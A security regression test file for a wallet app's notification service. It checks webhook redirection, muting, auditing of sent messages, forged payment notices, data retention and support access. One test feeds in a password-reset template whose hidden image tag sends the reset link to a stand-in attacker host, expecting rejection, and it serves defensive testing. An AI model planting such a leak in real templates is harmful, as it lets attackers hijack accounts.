/** What an independent review of messages found: who may listen in, speak in our name, silence, and go without a trace. */
import { afterEach, beforeEach, describe, expect, test } from 'bun:test'
import { sql } from 'drizzle-orm'
import { createWorld, type Person, PIN, type World } from '../support/world'

let world: World
let amina: Person
let operator: Person

const DAY_MS = 24 * 3_600_000

beforeEach(async () => {
  world = await createWorld({ 'private-webhooks': 'true', 'messages-kept-days': '90' })
  amina = await world.customer(100_000)
  operator = await world.person('operator')
  await world.app.settle()
})
afterEach(() => world.end())

const keyOf = ({ token }: Person, scopes: string[]) =>
  world.call('POST', '/api/v1/auth/api-keys', { token, body: { name: 'A script', scopes } })
const asOperator = (method: string, path: string, body?: object) =>
  world.call(method, `/api/v1/notifications/${path}`, { token: operator.token, body })
const audited = async () =>
  (await world.call('GET', '/api/v1/audit?limit=100', { token: operator.token })).body.items.map(
    ({ action }: { action: string }) => action,
  )
const pay = async (to: Person, amount = 10) => {
  const body = { to: to.id, amount, pin: PIN }
  const answer = await world.call('POST', '/api/v1/wallet/me/transfer', { token: amina.token, body })
  expect(answer.status).toBe(201)
  return answer.body.id as string
}

describe('whoever acts for a person by a key or as an application', () => {
  test('does not lead the person’s messages elsewhere', async () => {
    const { body: made, status } = await keyOf(amina, ['notifications:own'])
    const body = { url: 'http://127.0.0.1:9/spy' }
    const set = await world.call('PUT', '/api/v1/notifications/devices/webhook', { token: made.key, body })
    expect([status === 201, set.status === 200]).not.toEqual([true, true])
  })

  test('does not silence the news of money that leaves', async () => {
    const { body: made, status } = await keyOf(amina, ['notifications:own'])
    const body = { muted: { money: ['email', 'sms', 'whatsapp', 'push'] } }
    const set = await world.call('PUT', '/api/v1/notifications/preferences', { token: made.key, body })
    expect([status === 201, set.status === 200]).not.toEqual([true, true])
  })

  test('has no calendar of the person any more when the key is revoked', async () => {
    const { body: made } = await keyOf(amina, ['appointments:book'])
    const { body, status } = await world.call('POST', '/api/v1/appointments/feed', { token: made.key })
    if (status !== 201) return expect(status).toBe(403)
    await world.call('DELETE', `/api/v1/auth/api-keys/${made.id}`, { token: amina.token })
    const { pathname } = new URL(body.url)
    expect((await world.call('GET', pathname)).status).toBe(404)
  })
})

describe('a person is told, by another way,', () => {
  test('that their messages are posted to an endpoint from now on', async () => {
    const before = (await world.mailTo(amina.email)).length
    const body = { url: 'http://127.0.0.1:9/mine' }
    const set = await world.call('PUT', '/api/v1/notifications/devices/webhook', { token: amina.token, body })
    expect(set.status).toBe(200)
    expect((await world.mailTo(amina.email)).length).toBeGreaterThan(before)
  })

  test('at once of money that leaves, though somebody has asked for thirty receipts before', async () => {
    const bruno = await world.person('customer')
    const id = await pay(bruno)
    for (let i = 0; i < 31; i++) {
      const path = `/api/v1/wallet/me/transactions/${id}/receipt`
      await world.call('POST', path, { token: amina.token })
    }
    await world.app.settle()

    await pay(bruno, 5_000)

    const subjects = (await world.mailTo(amina.email)).map(({ subject }) => subject)
    expect(subjects).toContain('You sent USD 50.00')
  })
})

describe('a message that somebody sends by name', () => {
  const send = (body: object) => asOperator('POST', 'send', { to: amina.id, ...body })

  test('is noted, with who sent it', async () => {
    const sent = await send({ template: 'announcement', data: { title: 'Closed', message: 'Back soon.' } })
    expect(sent.status).toBe(202)
    expect((await audited()).filter((action: string) => /message|notification/.test(action))).not.toEqual([])
  })

  test('is no code of which nobody knows who sent it', async () => {
    const body = { to: amina.id, code: '482913' }
    const sent = await world.call('POST', '/api/v1/internal/notifications/otp', { token: operator.token, body })
    expect(sent.status).toBe(202)
    expect((await audited()).filter((action: string) => /message|notification|otp/.test(action))).not.toEqual([])
  })

  test('does not say that money came which did not', async () => {
    const data = { amount: 900_000, currency: 'USD', balance: 1_000_000, transferId: 'txn_1', from: 'The Bank' }
    const { status } = await send({ template: 'money_received', data, channels: ['email'] })
    expect(status).toBe(403)
  })

  test('does not take the place of the one that is sent when it happens', async () => {
    const { body: withdrawal } = await world.call('POST', '/api/v1/atm/withdrawal-request', {
      token: amina.token,
      body: { amount: 5_000, pin: PIN },
    })
    const data = { amount: 1, fee: 0, currency: 'USD', withdrawalId: withdrawal.id, by: 'nobody' }
    await send({ template: 'withdrawal_paid', data, about: withdrawal.id, expiresAt: '2026-01-01T00:00:00.000Z' })
    await world.app.settle()

    const agent = await world.agent(100_000)
    const paid = await world.call('POST', '/api/v1/atm/validate-token', {
      token: agent.token,
      body: { token: withdrawal.token },
    })
    expect(paid.status).toBe(200)
    const subjects = (await world.mailTo(amina.email)).map(({ subject }) => subject)
    expect(subjects).toContain('You withdrew USD 50.00')
  })

  test('is still there on its day, however far ahead that is', async () => {
    const sendAt = new Date(world.clock() + 100 * DAY_MS).toISOString()
    const data = { title: 'A year with us', message: 'Thank you.' }
    const { body } = await send({ template: 'announcement', data, sendAt })
    world.clock.advance(95 * DAY_MS)
    await world.app.notifications.keeping.prune()
    expect((await world.app.notifications.messages.get(body.id)).ok).toBe(true)
  })
})

describe('words that an operator writes', () => {
  test('carry no secret to an image on somebody else’s server', async () => {
    const words = {
      subject: 'Choose a new password',
      text: 'Choose it here:\n\n{{ link }}',
      html: '<p>Choose it here: <a href="{{ link }}">new password</a></p><img src="https://evil.example/?{{ link }}">',
    }
    expect((await asOperator('PUT', 'templates/password_reset/words/en', words)).status).toBe(422)
  })

  test('lead no link that lets in to an endpoint or a push service', async () => {
    const body = { tracks: [[{ medium: 'webhook' }], [{ medium: 'email' }]] }
    expect((await asOperator('PUT', 'templates/password_reset/route', body)).status).toBe(422)
  })

  test('are listed with the languages that they are in', async () => {
    const { body } = await asOperator('GET', 'templates')
    const [code] = body.items.filter(({ name }: { name: string }) => name === 'code')
    expect(code.languages).toEqual(['en', 'pt', 'fr'])
  })
})

describe('messages that a person wants gathered', () => {
  const news = (title: string, more: object = {}) => {
    const data = { title, message: 'As it says.' }
    return asOperator('POST', 'send', { to: amina.id, template: 'announcement', data, channels: ['email'], ...more })
  }
  const gather = () =>
    world.call('PUT', '/api/v1/notifications/preferences', {
      token: amina.token,
      body: { digests: { news: 'hourly' } },
    })

  test('come as one mail', async () => {
    await gather()
    for (const title of ['First', 'Second', 'Third']) await news(title)
    const before = (await world.mailTo(amina.email)).length
    world.clock.advance(3_600_000)

    const mails = await world.mailTo(amina.email)

    expect(mails.length - before).toBe(1)
    expect(mails[0]?.text).toContain('Second')
  })
})

test('support sees how a message arrived, and not how much money a person has', async () => {
  const [support, bruno] = [await world.person('support'), await world.person('customer')]
  const about = await pay(bruno)
  await world.app.settle()
  const read = (path: string) => world.call('GET', `/api/v1/notifications/${path}`, { token: support.token })
  const [first] = (await read(`messages?about=${about}`)).body.items
  const { data, deliveries } = (await read(`messages/${first.id}`)).body
  expect(deliveries).not.toEqual([])
  expect(Object.keys(data)).not.toContain('balance')
})

test('an endpoint that says it is gone is called no more', async () => {
  let calls = 0
  const server = Bun.serve({
    port: 0,
    fetch() {
      calls += 1
      return new Response('gone', { status: 410 })
    },
  })
  try {
    const body = { url: `http://127.0.0.1:${server.port}/hook` }
    await world.call('PUT', '/api/v1/notifications/devices/webhook', { token: amina.token, body })
    await world.app.settle()
    const bruno = await world.person('customer')
    for (let i = 0; i < 3; i++) {
      await pay(bruno)
      await world.app.settle()
    }
    expect(calls).toBe(1)
  } finally {
    await server.stop(true)
  }
})

test('a link at the foot of an old mail keeps nothing of a person who has left', async () => {
  const nia = await world.person('customer')
  const url = new URL(world.app.notifications.unsubscribing.urlFor(nia.id, 'news', 'email') as string)
  const user = await world.app.identity.known(nia.id)
  expect((await world.app.identity.closing.close(user, '192.0.2.1')).ok).toBe(true)
  await world.call('POST', `${url.pathname}${url.search}`, {
    body: 'List-Unsubscribe=One-Click',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
  })
  const { store } = world.runtime
  expect(await store.rows(store.read, sql`select user_id from notification_preferences`)).toEqual([])
})
